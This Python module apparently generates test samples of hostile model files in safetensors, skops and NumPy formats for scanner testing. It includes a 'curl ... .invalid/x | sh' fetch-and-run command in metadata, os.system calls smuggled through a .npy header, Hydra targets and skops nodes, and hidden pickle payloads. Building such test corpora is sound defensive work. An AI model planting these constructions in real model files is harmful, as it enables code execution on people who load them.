"""safetensors, skops and NumPy files that are not only data."""

from __future__ import annotations

import json
from collections.abc import Iterator

from corpus.formats.plain import npy, safetensors, skops, tensor
from corpus.formats.zips import DEFLATED, zip_of
from corpus.sample import Sample, Variation

FAMILY = "safetensors, skops, NumPy"
SAFETENSORS = "https://github.com/huggingface/safetensors#format"
HYDRA = "https://unit42.paloaltonetworks.com/rce-vulnerabilities-in-ai-python-libraries/"
NUMPY = "CVE-2019-6446"
OPERATOR, METHOD, CARD = "CVE-2025-54412", "CVE-2025-54413", "CVE-2025-54886"

Row = tuple[str, str, str, bytes]
Node = dict[str, object]


def samples(vary: Variation) -> Iterator[Sample]:
    """By format."""
    for technique, source, name, data in (*_safetensors(vary), *_skops(vary), *_numpy(vary)):
        yield Sample(name=name, data=data, family=FAMILY, technique=technique, source=source)
    code = (
        f"{{'descr': __import__('os').system('{vary.command()}'), 'fortran_order': False, 'shape': (3,), }}"
    )
    yield Sample(
        name="a.npy",
        data=npy(bytes(24), header=code),
        family=FAMILY,
        technique="code as the header, which numpy takes for a literal",
        source="https://numpy.org/doc/stable/reference/generated/numpy.lib.format.html",
        expected="not harmless",
    )


def _safetensors(vary: Variation) -> Iterator[Row]:
    name = "model.safetensors"
    overlapping = {"a": tensor(0, 16), "b": tensor(8, 16)}
    yield "tensors that overlap", SAFETENSORS, name, safetensors(overlapping, bytes(24))
    early = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [vary.pick((-4, -8)), 4]}}
    yield "a tensor before the first byte", SAFETENSORS, name, safetensors(early, bytes(8))
    large = {"a": {"dtype": "F32", "shape": [1 << vary.pick((40, 62)), 4], "data_offsets": [0, 16]}}
    yield "a shape that overflows", SAFETENSORS, name, safetensors(large, bytes(16))
    hole = {"a": tensor(0, 16), "b": tensor(16 + vary.pick((16, 64)), 16)}
    yield "bytes between the tensors", SAFETENSORS, name, safetensors(hole, bytes(96))
    shell = {"__metadata__": {"setup": f"curl http://{vary.word()}.invalid/x | sh"}, "a": tensor()}
    yield "a command in the metadata", SAFETENSORS, name, safetensors(shell, bytes(16))
    one = json.dumps(tensor(0, 16))
    yield "a name twice", SAFETENSORS, name, safetensors(f'{{"a": {one}, "a": {one}}}', bytes(16))
    yield (
        "a pickle behind the tensors",
        SAFETENSORS,
        name,
        safetensors({"a": tensor()}, bytes(16)) + vary.payload(4),
    )
    zipped = zip_of({"archive/data.pkl": vary.payload(2)})
    yield (
        "a PyTorch zip behind the tensors",
        SAFETENSORS,
        name,
        safetensors({"a": tensor()}, bytes(16)) + zipped,
    )
    target = vary.pick(("os.system", "builtins.eval", "subprocess.run"))
    metadata = {"__metadata__": {"config": json.dumps({"_target_": target, "_args_": [vary.command()]})}}
    yield (
        "a target of Hydra in the metadata",
        HYDRA,
        name,
        safetensors({**metadata, "a": tensor()}, bytes(16)),
    )


def _node(module: str, name: str, loader: str, number: int = 1, **more: object) -> Node:
    return {"__module__": module, "__class__": name, "__loader__": loader, "__id__": number, **more}


def _model(content: Node) -> dict[str, object]:
    """A model with something in it."""
    entries = {"key_types": _node("builtins", "list", "ListNode", 3, content=[]), "content": {"x": content}}
    state = _node("builtins", "dict", "DictNode", 2, **entries)
    top = _node("sklearn.linear_model._logistic", "LogisticRegression", "ObjectNode", 4, content=state)
    return {**top, "protocol": 2, "_skops_version": "0.13.0"}


def _skops(vary: Variation) -> Iterator[Row]:
    module, name = vary.pick(
        (("os", "system"), ("posix", "popen"), ("subprocess", "run"), ("builtins", "exec"))
    )
    direct = _node(module, name, "FunctionNode", content={"module_path": module, "function": name})
    yield "a function", OPERATOR, "model.skops", skops(_model(direct))
    arguments = _node(
        "builtins",
        "tuple",
        "TupleNode",
        5,
        content=[_node("builtins", "str", "JsonNode", 6, content='"system"', is_json=True)],
    )
    operator = _node(
        "operator", vary.pick(("methodcaller", "attrgetter")), "OperatorFuncNode", attrs=arguments
    )
    yield "an operator", OPERATOR, "model.skops", skops(_model(operator))
    disguised = _node("sklearn.linear_model._base", "LinearRegression", "OperatorFuncNode", attrs=arguments)
    yield (
        "an operator by a harmless name",
        OPERATOR,
        "model.skops",
        skops(_model({**disguised, "function": "call"})),
    )
    owner = _node(module, name, "ObjectNode", 7, content=None)
    method = _node("builtins", "int", "MethodNode", content={"func": "system", "obj": owner})
    yield "a method by a harmless name", METHOD, "model.skops", skops(_model(method))
    inner = {"func": direct, "args": arguments, "kwds": None, "namespace": None}
    partial = _node("functools", "partial", "PartialNode", content=inner)
    yield "a partial", OPERATOR, "model.skops", skops(_model(partial))
    yield "a type", METHOD, "model.skops", skops(_model(_node(module, name, "TypeNode")))
    reduced = _node(module, name, "ReduceNode", reduce={"args": arguments}, content=None)
    yield "any callable, reduced", METHOD, "model.skops", skops(_model(reduced))
    yield "a pickle by that name", CARD, "model.skops", vary.payload()
    plain = _model(_node("builtins", "str", "JsonNode", content='"x"', is_json=True))
    yield (
        "a pickle among the arrays",
        CARD,
        "model.skops",
        skops(plain, {"5.npy": npy(vary.payload(4), "'|O'", "(1,)")}),
    )


def _numpy(vary: Variation) -> Iterator[Row]:
    for version in (1, 2, 3):
        yield f"objects, version {version}", NUMPY, "a.npy", npy(vary.payload(3), "'|O'", "(1,)", version)
    fields = vary.pick(("[('a', '<f8'), ('b', '|O')]", "[('x', [('y', 'O')])]"))
    yield "objects in a field", NUMPY, "a.npy", npy(vary.payload(3), fields, "(1,)")
    member = vary.pick(("arr_0.npy", "w", "data.bin"))
    packed = zip_of({member: npy(vary.payload(3), "'|O'", "(1,)"), "b.npy": npy(bytes(24))}, method=DEFLATED)
    yield "objects in an .npz", NUMPY, "a.npz", packed
    yield "a pickle by that name", NUMPY, "a.npy", vary.payload()
    yield (
        "a pickle as a member",
        NUMPY,
        "a.npz",
        zip_of({"arr_0.npy": vary.payload(), "b.npy": npy(bytes(24))}),
    )
    yield "a pickle behind the array", NUMPY, "a.npy", npy(bytes(24)) + vary.payload(4)
